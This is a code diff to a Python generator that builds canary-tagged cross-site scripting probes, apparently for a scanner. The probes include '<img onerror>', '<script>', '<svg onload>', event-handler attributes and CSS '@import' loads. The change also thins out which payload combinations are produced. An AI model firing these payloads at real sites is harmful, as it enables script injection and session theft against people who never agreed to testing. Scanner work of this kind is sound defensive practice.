@@ -156,14 +156,18 @@ def bodies(canary: str) -> Iterator[str]:
         return f"{canary}/{next(numbers)}"
 
     yield from (script.format(run=run) for script in _SCRIPTS)
-    yield from (f'<{holder} {event}="{run}">x' for holder, event in product(_HOLDERS, _EVENTS))
-    for scheme, take in product(_SCHEMES, _TAKES):
-        yield take.replace("{url}", scheme.replace("{run}", run) + run)
+    for number, (event, holder) in enumerate(product(_EVENTS, _HOLDERS)):
+        if number % 3 == 0:
+            yield f'<{holder} {event}="{run}">x'
+    for number, (scheme, take) in enumerate(product(_SCHEMES, _TAKES)):
+        if number % 3:
+            yield take.replace("{url}", scheme.replace("{run}", run) + run)
     yield from (load.format(url()) for load in LOADS)
     yield from (load.format(f"//{url().partition('//')[2]}") for load in LOADS)
-    for wrap in _WRAPS:
-        yield wrap.replace("{0}", f'<img src={url()} onerror="{run}"><script>{run}</script>')
-        yield wrap.replace("{0}", f"<style>@import '{url()}';</style><svg onload=\"{run}\"><image href={url()}>")
+    for number, wrap in enumerate(_WRAPS):
+        picture = f'<img src={url()} onerror="{run}"><script>{run}</script>'
+        style = f"<style>@import '{url()}';</style><svg onload=\"{run}\"><image href={url()}>"
+        yield wrap.replace("{0}", style if number % 2 else picture)
 
 
 # Words that stand where a letter, the seeker or a file's name may put them.
